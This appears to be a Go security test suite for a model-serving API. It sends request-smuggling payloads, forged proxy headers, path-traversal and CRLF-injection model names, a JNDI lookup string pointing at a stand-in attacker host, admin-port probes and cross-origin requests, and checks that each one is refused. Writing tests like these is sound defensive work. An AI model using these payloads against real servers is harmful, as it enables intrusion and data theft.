package attack

import (
	"bufio"
	"io"
	"net"
	"net/http"
	"strings"
	"testing"
)

// smuggling returns requests that two servers could read in different ways, with the
// credential of a viewer before what only an admin may.
func smuggling() []attack {
	const (
		head   = "POST " + predictPath + " HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n" + asViewer
		hidden = "DELETE /api/v1/models/own/unload HTTP/1.1\r\nHost: 127.0.0.1\r\n" + asAdmin + "\r\n"
	)
	const closed = "400, and nothing that follows is answered"
	var all []attack
	add := func(must string, want []int, more ...string) {
		for i := 0; i < len(more); i += 2 {
			all = append(all, attack{name: more[i], must: must, text: more[i+1], want: want})
		}
	}
	add(closed, []int{400},
		"a length and chunks (CL.TE)", head+"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"+hidden,
		"chunks and a length (TE.CL)", head+"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n"+hidden,
		"two codings (TE.TE)", head+"Transfer-Encoding: chunked\r\nTransfer-Encoding: cow\r\n\r\n0\r\n\r\n"+hidden,
		"a coding by another name", head+"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n"+hidden,
		"a coding after a tab", head+"Transfer-Encoding:\tchunked, identity\r\n\r\n0\r\n\r\n"+hidden,
		"two lengths", head+"Content-Length: 5\r\nContent-Length: 0\r\n\r\n"+hidden,
		"two equal lengths in one line", head+"Content-Length: 0, 0\r\n\r\n"+hidden,
		"a length in hexadecimal", head+"Content-Length: 0x5\r\n\r\n"+hidden,
		"a space before the colon", head+"Content-Length : 5\r\n\r\n"+hidden,
		"a line without a colon", head+"Content-Length 5\r\n\r\n"+hidden,
		"a chunk's size beyond 64 bits", head+"Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n"+hidden,
		"a chunk's size with a sign", head+"Transfer-Encoding: chunked\r\n\r\n+0\r\n\r\n"+hidden,
		"a NUL in a header", get(modelsPath, asViewer, "X: a\x00b\r\n")+hidden,
		"a control character in the path", "GET /api/v1/mod\x01els HTTP/1.1\r\nHost: 127.0.0.1\r\n"+asViewer+"\r\n"+hidden,
		"two Hosts", "GET "+modelsPath+" HTTP/1.1\r\nHost: 127.0.0.1\r\nHost: evil.example\r\n"+asViewer+"\r\n"+hidden,
		"no Host", "GET "+modelsPath+" HTTP/1.1\r\n"+asViewer+"\r\n"+hidden,
		"HTTP/0.9", "GET "+modelsPath+"\r\n"+hidden,
		"HTTP/2 without TLS", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"+hidden,
		"a line that begins with a space, before all headers", "GET "+modelsPath+" HTTP/1.1\r\n X: y\r\nHost: 127.0.0.1\r\n"+asViewer+"\r\n"+hidden,
	)
	add("answered as HTTP/1.0 is, and nothing that follows", []int{200},
		"HTTP/9.9", "GET "+modelsPath+" HTTP/9.9\r\nHost: 127.0.0.1\r\n"+asViewer+"\r\n"+hidden)
	add("403: it is no name of this host", []int{403},
		"a target with another host", "GET http://evil.example"+modelsPath+" HTTP/1.1\r\nHost: 127.0.0.1\r\n"+asViewer+"\r\n")
	add("401: it is no header of the request", []int{401},
		"a key in a chunk's trailer", "POST "+predictPath+" HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\nTrailer: X-API-Key\r\n\r\n0\r\nX-API-Key: $admin\r\n\r\n",
		"a key in a header with an underscore", get(modelsPath, "X_API_Key: $admin\r\n"),
		"a key in a header with a longer name", get(modelsPath, "XX-API-Key: $admin\r\n"))
	add("401: the value is the whole line", []int{401},
		"a folded key", get(modelsPath, "X-API-Key: pyn_\r\n $admin\r\n"))
	add("it changes nothing", []int{200},
		"an upgrade to HTTP/2", get(modelsPath, asViewer, "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n"),
		"a header that names the key as a hop's", get(modelsPath, asViewer, "Connection: X-API-Key\r\n"),
		"headers that rewrite the path", get(modelsPath, asViewer, "X-Original-URL: /api/v1/models/own/unload\r\nX-Rewrite-URL: /config\r\n"),
		"headers that change the method", get(modelsPath, asAdmin, "X-HTTP-Method-Override: DELETE\r\nX-HTTP-Method: DELETE\r\n"))
	return append(all, attack{name: "the hidden requests", must: "none was carried out", run: func(t *testing.T, s *site) string {
		if v := s.Version("own"); v == nil || v.Status != "loaded" {
			t.Errorf("the model is %+v", v)
		}
		return "the model is still loaded"
	}})
}

// forwarded returns requests whose headers claim what only a proxy may say, where no
// proxy is trusted.
func forwarded() []attack {
	var all []attack
	for _, header := range []string{
		"X-Forwarded-For: 127.0.0.1", "Forwarded: for=127.0.0.1;proto=https", "X-Real-IP: 127.0.0.1", "X-Forwarded-Host: localhost", "X-Forwarded-User: boss", "X-Remote-User: boss", "Remote-User: boss",
		"X-Forwarded-Client-Cert: Subject=\"CN=scraper\"", "X-SSL-Client-S-DN: CN=scraper", "X-Authenticated-Userid: boss", "X-Forwarded-Access-Token: boss",
	} {
		all = append(all, attack{name: header, must: "401", text: get(modelsPath, header+"\r\n"), want: []int{401}})
	}
	return append(all, attack{name: "the address in the audit", must: "the connection's", run: func(t *testing.T, s *site) string {
		from := s.source()
		a := s.one(t, from, post(modelsPath+"/own/load", "", shown(s.viewer), "X-Forwarded-For: 203.0.113.7\r\n", "X-Request-ID: of-a-proxy\r\n"))
		if a.status != 403 {
			t.Errorf("%v", a)
		}
		line := s.audited(t, "of-a-proxy")
		if line["address"] != from.(*net.TCPAddr).IP.String() {
			t.Errorf("%v", line)
		}
		return "the connection's"
	}})
}

// paths returns requests that mean to leave what a model's name may name.
func paths() []attack {
	var all []attack
	for _, id := range []string{
		"..", "%2e%2e", "..%2f..%2f..%2fetc%2fpasswd", "..%252f..%252fetc", "..%5c..%5cetc", "..%c0%af..%c0%afetc", "..;%2f..", "own%00", "own%0d%0aSet-Cookie:%20a=b", "%2fetc%2fpasswd", "own%2f1.0.0%2fmodel.yaml", ".secret",
		"~root", "$%7bjndi:ldap:%2f%2fevil.example%7d", "own;id=other", "own%3fversion=1.0.0", "%f0%9f%92%a3", "*", strings.Repeat("a", 4000),
	} {
		shown := id
		if len(shown) > 100 {
			shown = "4,000 letters"
		}
		all = append(all, attack{name: "a model called " + shown, must: "400 or 404", run: func(t *testing.T, s *site) string {
			for _, text := range []string{"GET " + modelsPath + "/" + id, "GET " + modelsPath + "/" + id + "/stats", "POST " + modelsPath + "/" + id + "/load"} {
				a := s.one(t, nil, text+" HTTP/1.1\r\nHost: 127.0.0.1\r\n"+strings.ReplaceAll(asAdmin, "$admin", s.admin)+"Content-Length: 0\r\n\r\n")
				if a.status != 400 && a.status != 404 {
					t.Errorf("%s: %v", text, a)
				}
				if a.header.Get("Set-Cookie") != "" || strings.Contains(a.text, "root:x") {
					t.Errorf("%s: %v %s", text, a.header, a.text)
				}
			}
			return "refused on all routes"
		}})
	}
	body := func(name, body string, want int) {
		all = append(all, attack{name: name, must: map[int]string{400: "400", 404: "404"}[want], text: post(predictPath, body, asAdmin), want: []int{want}})
	}
	body("a model by a path in the body", `{"model_id": "../../etc/passwd", "data": [1]}`, 400)
	body("a version by a path in the body", `{"model_id": "own", "version": "../../other/1.0.0", "data": [1]}`, 400)
	body("an alias by a path in the body", `{"model_id": "own@../other", "data": [1]}`, 400)
	return all
}

// operators returns attempts to reach what only the admin listener has, and attacks on
// that.
func operators() []attack {
	var all []attack
	for _, path := range []string{"/config", "/debug/pprof/", "/debug/pprof/profile?seconds=1", "/debug/vars", "/admin", "//config", "/health/../config", "/health/..;/config", "/%63onfig", "/api/v1/../../config", "/metrics/../debug/pprof/", "/.env", "/actuator/env"} {
		all = append(all, attack{name: "on the serving port: " + path, must: "404, with an admin's key as well", text: get(path, asAdmin), want: []int{404}})
	}
	ask := func(name, must, path, header string, want int) {
		all = append(all, attack{name: "on theirs: " + name, must: must, run: func(t *testing.T, s *site) string {
			header := strings.NewReplacer("$viewer", s.viewer, "$operator", s.operator, "$admin", s.admin).Replace(header)
			host := "Host: " + s.operators + "\r\n"
			if strings.Contains(header, "Host: ") {
				host = ""
			}
			c, err := net.Dial("tcp", s.operators)
			check(t, err)
			defer c.Close()
			_, err = io.WriteString(c, "GET "+path+" HTTP/1.1\r\n"+host+header+"Connection: close\r\n\r\n")
			check(t, err)
			a, err := read(bufio.NewReader(c))
			check(t, err)
			if s.harmlessConfig(t, a); a.status != want {
				t.Errorf("%v", a)
			}
			return a.String()
		}})
	}
	ask("no key", "401", "/config", "", 401)
	ask("a viewer's key", "403", "/config", asViewer, 403)
	ask("an operator's key", "403", "/debug/pprof/", "X-API-Key: $operator\r\n", 403)
	ask("a rebound name", "403", "/config", "Host: evil.example\r\n"+asAdmin, 403)
	ask("an admin's key", "200, without secrets", "/config", asAdmin, 200)
	return all
}

// harmlessConfig fails the test if an answer of the admin listener holds a secret.
func (s *site) harmlessConfig(t *testing.T, a *answer) {
	t.Helper()
	for _, secret := range s.secrets() {
		if strings.Contains(a.text, secret) {
			t.Errorf("the answer holds %.12q", secret)
		}
	}
	if a.header.Get("Cache-Control") != "no-store" || a.header.Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("headers are missing: %v", a.header)
	}
}

// pages returns what pages of other sites can make a browser send.
func pages() []attack {
	const evil, friend = "Origin: https://evil.example\r\n", "Origin: https://friend.example\r\n"
	preflight := func(origin string) string {
		return "OPTIONS " + predictPath + " HTTP/1.1\r\nHost: 127.0.0.1\r\n" + origin + "Access-Control-Request-Method: POST\r\nAccess-Control-Request-Headers: x-api-key\r\n\r\n"
	}
	reads := func(name, origin string, allowed bool) attack {
		return attack{name: name, must: map[bool]string{true: "it may read the answer", false: "it may not read the answer"}[allowed], run: func(t *testing.T, s *site) string {
			a := s.one(t, nil, get(modelsPath, shown(s.viewer), origin))
			got := a.header.Get("Access-Control-Allow-Origin")
			if allowed != (got != "") || got == "*" || a.header.Get("Access-Control-Allow-Credentials") != "" {
				t.Errorf("%v", a.header)
			}
			return "Access-Control-Allow-Origin: " + got
		}}
	}
	all := []attack{
		{name: "another site's asks whether it may", must: "403", text: preflight(evil), want: []int{403}},
		{name: "a listed site's asks whether it may", must: "204", text: preflight(friend), want: []int{204}},
		{name: "of origin null asks whether it may", must: "403", text: preflight("Origin: null\r\n"), want: []int{403}},
		{name: "another site's sends a key that it has stolen", must: "403", text: post(predictPath, ownBody, asViewer, evil), want: []int{403}},
		{name: "another site's loads a model", must: "403", text: post(modelsPath+"/own/load", "", asAdmin, evil), want: []int{403}},
		{name: "one without Origin, of another site", must: "403", text: post(modelsPath+"/own/load", "", asAdmin, "Sec-Fetch-Site: cross-site\r\n"), want: []int{403}},
		{name: "a form", must: "415", text: strings.Replace(post(modelsPath+"/own/load", "", asAdmin), "application/json", "text/plain", 1), want: []int{415}},
		{name: "rebinding", must: "403", text: strings.Replace(get(modelsPath, asAdmin), "127.0.0.1", "evil.example", 1), want: []int{403}},
		reads("another site's reads", evil, false), reads("a listed site's reads", friend, true), reads("one whose name begins with a listed site's reads", "Origin: https://friend.example.evil.example\r\n", false), reads("a listed site's without TLS reads", "Origin: http://friend.example\r\n", false),
		{name: "markup in the path", must: "404, as a problem that no browser takes for a page", run: func(t *testing.T, s *site) string {
			a := s.one(t, nil, get("/<script>alert(1)</script>"))
			if a.status != 404 || !strings.HasPrefix(a.header.Get("Content-Type"), "application/problem+json") || a.header.Get("Content-Security-Policy") == "" {
				t.Errorf("%v %v", a, a.header)
			}
			return "404 " + a.header.Get("Content-Type")
		}},
	}
	for _, c := range []struct {
		name, origin string
		want         int
	}{{"another site's opens a WebSocket with a good key", "https://evil.example", 403}, {"of origin null opens a WebSocket with a good key", "null", 403}, {"a listed site's opens a WebSocket with a good key", "https://friend.example", 101}} {
		all = append(all, attack{name: c.name, must: map[int]string{403: "403", 101: "101"}[c.want], run: func(t *testing.T, s *site) string {
			_, status := s.socket(t, http.Header{"Origin": {c.origin}, "Sec-Websocket-Protocol": {"bearer, " + s.viewer}})
			if status != c.want {
				t.Errorf("%d", status)
			}
			return http.StatusText(status)
		}})
	}
	return append(all, attack{name: "a listed site's opens a WebSocket without a key", must: "401", run: func(t *testing.T, s *site) string {
		_, status := s.socket(t, http.Header{"Origin": {"https://friend.example"}})
		if status != http.StatusUnauthorized {
			t.Errorf("%d", status)
		}
		return http.StatusText(status)
	}}, attack{name: "a request of its own after all that", must: "200", text: post(predictPath, ownBody, asOwn), want: []int{200}})
}
